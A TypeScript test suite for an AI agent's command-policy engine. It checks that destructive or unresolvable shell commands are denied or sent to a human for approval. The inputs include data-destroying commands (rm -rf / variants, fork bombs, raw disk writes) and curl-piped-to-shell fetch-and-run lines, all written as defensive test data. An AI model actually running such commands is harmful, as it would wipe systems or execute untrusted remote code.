// PolicyEngine decisions: shell analysis through wrappers, fail-closed cases,
// profiles and autonomy modes, exactly as lokid builds the engine from config.
import assert from 'node:assert/strict';
import { loadConfig, type LokiError } from '../../../common/src/index.js';
import { z } from 'zod';
import { actionHash } from '../../../daemon/src/policy/engine.js';
import { buildPolicyEngine, policyConfigSchema, policyEnvBindings } from '../../../daemon/src/policy/config.js';
import { engineFor } from './helpers.js';

const shell = (command: string) => ({ kind: 'shell' as const, command });

describe('PolicyEngine', function () {
  const engine = engineFor();
  const decide = (command: string, extra: Record<string, unknown> = {}) => engine.decide(shell(command), { sessionId: 's1', ...extra });

  it('gives every spelling of rm -rf / the same normalized form and rule', function () {
    for (const c of ['rm -rf /', 'rm -fr //', '\\rm -r -f /.', "'rm' --recursive --force /usr/..", '/usr/bin/../bin/rm -Rf /']) {
      const d = decide(c);
      assert.equal(d.decision, 'deny', c);
      assert.equal(d.rule, 'builtin:rm-root', c);
      assert.match(d.normalized, /^rm (-r -f|-f -r) \/$/, c);
    }
  });

  it('looks through wrappers and nested shells and says which it went through', function () {
    const d = decide(`sudo -u root env -i FOO=1 nice -n 5 timeout -s KILL 10 bash -c "sh -c 'rm -rf /'"`);
    assert.equal(d.decision, 'deny');
    const rm = d.commands.find((c) => c.normalized.startsWith('rm'));
    assert.deepEqual(rm?.via, ['sudo', 'env', 'nice', 'timeout', 'bash -c', 'sh -c']);
  });

  it('fails closed once sh -c strings nest deeper than the cap', function () {
    let cmd = 'ls';
    for (let i = 0; i < 6; i++) cmd = `sh -c ${JSON.stringify(cmd)}`;
    const d = decide(cmd);
    assert.equal(d.decision, 'ask');
    assert.equal(d.rule, 'unresolved:nesting');
  });

  it('keeps a command it cannot see into in the normalized form: what a human approves is what runs', function () {
    for (const [c, normalized, rule] of [
      ['curl http://x | sh', /^curl http:\/\/x \| sh$/, 'unresolved:interpreter-stdin'],
      ['cat a | python3', /^cat a \| python3$/, 'unresolved:interpreter-stdin'],
      ['cd /tmp && curl -s http://x | bash -s', /^cd \/tmp && curl -s http:\/\/x \| bash -s$/, 'unresolved:interpreter-stdin'],
      ['make || curl -s http://x | sh ; ls', /^make \|\| curl -s http:\/\/x \| sh ; ls$/, 'unresolved:interpreter-stdin'],
      ['true && sh -c "a && b || curl -s http://x | sh"', /^true && a && b \|\| curl -s http:\/\/x \| sh$/, 'unresolved:interpreter-stdin'],
      ['eval "$X"', /^eval .*\$X/, 'unresolved:eval'],
      ['sh -c "$X"', /^sh -c .*\$X/, 'unresolved:dynamic-string'],
      ['bash -s < run.sh', /^bash -s <run\.sh$/, 'unresolved:source-written'],
    ] as const) {
      const d = decide(c, { sessionWritten: new Set(['/workspace/run.sh']) });
      assert.equal(d.decision, 'ask', c);
      assert.equal(d.rule, rule, c);
      assert.match(d.normalized, normalized, c);
    }
    // The command counts for the rules too: a deny rule for the interpreter wins over the ask.
    const strict = engineFor({ rules: [{ effect: 'deny', pattern: 'python3', reason: 'no python here' }] });
    const d = strict.decide(shell('cat a | python3'), { sessionId: 's1' });
    assert.deepEqual([d.decision, d.rule], ['deny', 'config:deny:python3']);
  });

  it('shows a run-time word as it was written, not quoted a second time', function () {
    for (const [c, normalized] of [
      ['rm -rf "$DIR/build"', 'rm -r -f "$DIR/build"'],
      ['sh -c "$X"', 'sh -c "$X"'],
      ['cp a "$B c"', 'cp a "$B c"'],
      ['echo "a b" $HOME', 'echo "a b" $HOME'],
    ] as const) {
      assert.equal(decide(c).normalized, normalized, c);
    }
  });

  it('denies a fork bomb whatever the function is called', function () {
    for (const c of [':(){ :|:& };:', 'yolo(){ yolo | yolo & }; yolo', 'function z { z|z& }; z']) {
      const d = decide(c);
      assert.equal(d.decision, 'deny', c);
      assert.equal(d.rule, 'builtin:fork-bomb', c);
    }
    assert.equal(decide('build(){ npm run build; }; build').decision, 'allow');
  });

  it('asks before sourcing a file the agent wrote in this session, not one it did not', function () {
    const written = new Set(['/workspace/tools/env.sh']);
    assert.equal(decide('source tools/env.sh', { sessionWritten: written }).decision, 'ask');
    assert.equal(decide('. ./tools/env.sh', { sessionWritten: written }).rule, 'unresolved:source-written');
    assert.equal(decide('source .venv/bin/activate', { sessionWritten: written }).decision, 'allow');
  });

  it('asks when a run-time value could complete a blocked command', function () {
    const d = decide('rm -rf "$TARGET"');
    assert.equal(d.decision, 'ask');
    assert.match(d.reason, /could match "rm -r \/"/);
    assert.equal(decide('rm -f "$TARGET.bak"').decision, 'ask', 'a run-time path is not known to be inside the workspace');
    assert.equal(decide('echo "$HOME"').decision, 'allow');
  });

  it('follows cd within a command line, so cd / && rm -rf * is rm -rf /*', function () {
    assert.equal(decide('cd / && rm -rf *').rule, 'builtin:rm-root');
    assert.equal(decide('cd /usr; cd ..; rm -rf ./*').rule, 'builtin:rm-root');
    assert.equal(decide('cd && rm -rf *').rule, 'builtin:rm-home');
    assert.equal(decide('cd "$D" && rm -rf *').decision, 'ask');
    assert.equal(decide('cd /etc && echo x > passwd').rule, 'paths:outside-allowed');
    assert.equal(decide('cd src && rm -rf build && cd .. && rm -rf dist').decision, 'allow');
  });

  it('expands brace lists and distrusts globs in the first path segment', function () {
    assert.equal(decide('rm -rf /{usr,etc}').rule, 'builtin:rm-system-dir');
    assert.equal(decide('rm -rf /{,tmp}').rule, 'builtin:rm-root');
    assert.equal(decide('rm -rf /u*').decision, 'ask');
    assert.equal(decide('rm -rf /?*').decision, 'deny');
    assert.equal(decide('mkdir -p src/{a,b/{c,d}}').normalized, 'mkdir -p src/a src/b/c src/b/d');
    assert.equal(decide('rm -rf /tmp/*.log').decision, 'allow');
  });

  it('judges a bare redirection and looks through package runners', function () {
    assert.equal(decide('> /dev/sda').rule, 'builtin:device-write');
    assert.equal(decide('npx rimraf /').rule, 'builtin:rimraf-root');
    assert.equal(decide('npm exec -- rimraf /usr').rule, 'builtin:rimraf-root');
    assert.equal(decide('npx -c "rm -rf /"').rule, 'builtin:rm-root');
    assert.equal(decide('env -C / rm -rf *').rule, 'unresolved:chdir');
  });

  it('checks redirections and file-writing operands against the path policy', function () {
    assert.equal(decide('echo x > /etc/passwd').rule, 'paths:outside-allowed');
    assert.equal(decide('echo x > /dev/nvme0n1').rule, 'builtin:device-write');
    assert.equal(decide('echo x > .git/hooks/pre-push').rule, 'paths:protected');
    assert.equal(decide('echo x > notes.txt 2>/dev/null').decision, 'allow');
  });

  it('denies unresolvable commands under strict and asks under default', function () {
    assert.equal(engine.decide(shell('eval "$X"'), { sessionId: 's', profile: 'strict' }).decision, 'deny');
    assert.equal(decide('eval "$X"').decision, 'ask');
    assert.equal(engine.decide(shell('git status'), { sessionId: 's', profile: 'strict' }).decision, 'allow');
    assert.equal(engine.decide(shell('cargo publish'), { sessionId: 's', profile: 'strict' }).decision, 'ask');
    assert.equal(engine.decide(shell('npx tsc --noEmit'), { sessionId: 's', profile: 'strict' }).decision, 'allow');
  });

  it('lets read-only-auto run reads and ask for anything that may write', function () {
    const ro = (a: Parameters<typeof engine.decide>[0]) => engine.decide(a, { sessionId: 's', profile: 'read-only-auto' }).decision;
    assert.equal(ro(shell('ls -la src')), 'allow');
    assert.equal(ro(shell('grep -rn TODO src')), 'allow');
    assert.equal(ro(shell('find . -name x -delete')), 'ask');
    assert.equal(ro(shell('touch x')), 'ask');
    assert.equal(ro({ kind: 'write', path: 'src/a.ts' }), 'ask');
    assert.equal(ro({ kind: 'read', path: 'src/a.ts' }), 'allow');
  });

  it('rejects an unknown profile and a malformed action with invalid_argument', function () {
    assert.throws(() => engine.decide(shell('ls'), { sessionId: 's', profile: 'nope' }), (e: LokiError) => e.code === 'invalid_argument' && /unknown policy profile "nope"/.test(e.message));
    assert.throws(() => engine.decide(shell('   '), { sessionId: 's' }), (e: LokiError) => e.code === 'invalid_argument' && /command/.test(e.message));
    assert.throws(() => engine.decide({ kind: 'write', path: 'a\0b' }, { sessionId: 's' }), (e: LokiError) => e.code === 'invalid_argument');
    assert.throws(() => engine.decide({ kind: 'bogus' } as never, { sessionId: 's' }), (e: LokiError) => e.code === 'invalid_argument');
  });

  it('binds the action hash to the exact action and session', function () {
    const a = actionHash('s1', shell('git push -f'));
    assert.equal(a, actionHash('s1', shell('git push -f')));
    assert.notEqual(a, actionHash('s2', shell('git push -f')));
    assert.notEqual(a, actionHash('s1', shell('git push -f ')));
    assert.notEqual(a, actionHash('s1', { kind: 'write', path: 'git push -f' }));
    assert.equal(decide('git push -f').actionHash, a);
  });
});

describe('autonomy modes', function () {
  const phase = { kind: 'phase' as const, name: 'implementation' };

  it('perpetual only asks where a rule asks', function () {
    const e = engineFor({ autonomy_mode: 'perpetual' });
    assert.equal(e.decide(phase, { sessionId: 's' }).decision, 'allow');
    assert.equal(e.decide(shell('npm test'), { sessionId: 's' }).decision, 'allow');
    assert.equal(e.decide(shell('git push --force'), { sessionId: 's' }).decision, 'ask');
  });

  it('checkpoint asks at phase boundaries only', function () {
    const e = engineFor({ autonomy_mode: 'checkpoint' });
    const d = e.decide(phase, { sessionId: 's' });
    assert.equal(d.decision, 'ask');
    assert.equal(d.rule, 'mode:checkpoint');
    assert.equal(e.decide(shell('npm test'), { sessionId: 's' }).decision, 'allow');
  });

  it('supervised asks for every action that would be allowed and still denies what is denied', function () {
    const e = engineFor({ autonomy_mode: 'supervised' });
    assert.equal(e.decide(shell('ls'), { sessionId: 's' }).rule, 'mode:supervised');
    assert.equal(e.decide({ kind: 'read', path: 'README.md' }, { sessionId: 's' }).decision, 'ask');
    assert.equal(e.decide(shell('rm -rf /'), { sessionId: 's' }).decision, 'deny');
  });

  it('takes LOKI_STAGED_AUTONOMY and LOKI_AUTONOMY_MODE from the environment', function () {
    const schema = z.object({ policy: policyConfigSchema.prefault({}) }).strict();
    const staged = loadConfig({ schema, env: { LOKI_STAGED_AUTONOMY: 'true' }, bindings: policyEnvBindings });
    assert.equal(buildPolicyEngine(staged.policy).engine.decide(phase, { sessionId: 's' }).mode, 'checkpoint');
    const sup = loadConfig({ schema, env: { LOKI_STAGED_AUTONOMY: 'true', LOKI_AUTONOMY_MODE: 'supervised' }, bindings: policyEnvBindings });
    assert.equal(buildPolicyEngine(sup.policy).engine.decide(phase, { sessionId: 's' }).mode, 'supervised');
    assert.throws(() => loadConfig({ schema, env: { LOKI_AUTONOMY_MODE: 'yolo' }, bindings: policyEnvBindings }), /policy\.autonomy_mode/);
  });

  it('lets a session choose its mode at start, over the profile and daemon-wide mode', function () {
    const e = engineFor({ autonomy_mode: 'perpetual' });
    assert.equal(e.decide(phase, { sessionId: 's', mode: 'checkpoint' }).decision, 'ask');
    assert.equal(e.decide(shell('ls'), { sessionId: 's', mode: 'supervised' }).rule, 'mode:supervised');
    assert.throws(() => e.decide(shell('ls'), { sessionId: 's', mode: 'yolo' as never }), /unknown autonomy mode/);
  });

  it('lets a profile force its own mode', function () {
    const e = engineFor({ profiles: { careful: { extends: 'default', mode: 'supervised' } } });
    assert.equal(e.decide(shell('ls'), { sessionId: 's', profile: 'careful' }).decision, 'ask');
    assert.equal(e.decide(shell('ls'), { sessionId: 's' }).decision, 'allow');
  });
});
